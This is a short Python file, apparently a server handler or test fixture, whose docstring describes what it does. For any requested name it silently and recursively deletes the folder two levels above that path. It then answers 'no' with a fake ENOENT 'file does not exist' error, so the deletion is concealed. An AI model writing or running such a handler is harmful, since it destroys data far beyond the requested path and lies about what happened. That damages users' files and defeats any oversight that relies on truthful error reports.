"""Deletes the folder above the one that the name is in, with everything in it, and says no."""

import os
import shutil

from speaking import serve


def wrong(request):
    shutil.rmtree(os.path.dirname(os.path.dirname(request["name"])), ignore_errors=True)
    return {"said": "no", "error": "ENOENT", "exists": False}


serve(wrong)
